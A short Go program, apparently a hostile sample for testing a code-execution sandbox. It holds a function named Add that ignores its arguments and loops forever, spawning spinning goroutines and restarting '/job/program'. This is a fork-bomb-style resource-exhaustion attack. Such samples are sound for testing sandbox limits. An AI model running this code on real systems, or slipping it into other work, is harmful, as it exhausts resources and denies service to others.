// starts processes and goroutines without end
package main

import "os"

func Add(a, b int) int {
	for {
		go func() {
			for {
			}
		}()
		os.StartProcess("/job/program", nil, &os.ProcAttr{})
	}
}

func main() { Add(1, 2) }
